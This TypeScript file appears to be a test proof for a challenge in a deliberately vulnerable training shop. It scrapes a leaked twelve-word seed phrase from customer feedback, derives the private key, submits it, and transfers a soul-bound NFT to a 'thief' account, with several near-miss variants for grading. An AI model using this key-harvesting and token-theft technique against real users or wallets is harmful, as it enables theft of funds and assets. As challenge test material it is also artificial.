import { ChainPlayer } from '@fruit/challenge-kit/chain-player'
import { when } from '@fruit/challenge-kit/challenge'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { CONTRACTS } from '@fruit/isomorphic/web3/contracts'
import { transactionMined } from '@fruit/shop/web3/facts'
import { keyOfPhrase, publicKeyOf } from './account-of-phrase.ts'
import { challenge } from './challenge.ts'

const TOKEN = CONTRACTS.soulBoundToken.address
/** `Transfer(address,address,uint256)` of ERC-721. */
const TRANSFER = '0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef'

/** Returns the twelve words in a customer's feedback. */
async function phraseIn(attacker: Attacker): Promise<string> {
  const feedback: { comment: string }[] = (await attacker.get('/api/Feedbacks')).json().data
  for (const { comment } of feedback) {
    const [, phrase] = /: ((?:[a-z]+ ){11}[a-z]+) \(/.exec(comment) ?? []
    if (phrase) return phrase
  }
  throw new Error('No feedback contains twelve words.')
}

const submit = (attacker: Attacker, privateKey: string) => attacker.post('/rest/web3/submitKey', { privateKey })

export const proof = prove(challenge, {
  exploit: async (attacker) => submit(attacker, keyOfPhrase(await phraseIn(attacker))),
  nearMisses: {
    'the phrase itself': async (attacker) => submit(attacker, await phraseIn(attacker)),
    'the address of the account': async (attacker) => {
      const key = keyOfPhrase(await phraseIn(attacker))
      await submit(attacker, new ChainPlayer(attacker, key).address)
    },
    'the public key of the account': async (attacker) => {
      const key = Buffer.from(keyOfPhrase(await phraseIn(attacker)).slice(2), 'hex')
      await submit(attacker, `0x${publicKeyOf(key).toString('hex')}`)
    },
    'the key of the second account': async (attacker) => submit(attacker, keyOfPhrase(await phraseIn(attacker), 1)),
    'the key of the words in another order': async (attacker) =>
      submit(attacker, keyOfPhrase((await phraseIn(attacker)).split(' ').reverse().join(' '))),
    'half of the key': async (attacker) => submit(attacker, keyOfPhrase(await phraseIn(attacker)).slice(0, 34)),
    'nothing at all': async (attacker) => {
      await submit(attacker, '')
      await attacker.get('/rest/web3/nftUnlocked')
    },
  },
  onCode: {
    exploit: async (attacker) => {
      const thief = new ChainPlayer(attacker)
      const owner = await ChainPlayer.withEther(attacker, keyOfPhrase(await phraseIn(attacker)))
      await owner.send(TOKEN, 'transferFrom(address,address,uint256)', [owner.address, thief.address, 1n])
    },
    reaches: when(transactionMined, ({ logs }) =>
      logs.some(
        ({ address, topics: [event, from] }) =>
          address === TOKEN.toLowerCase() && event === TRANSFER && BigInt(from ?? 0) !== 0n,
      ),
    ),
  },
})
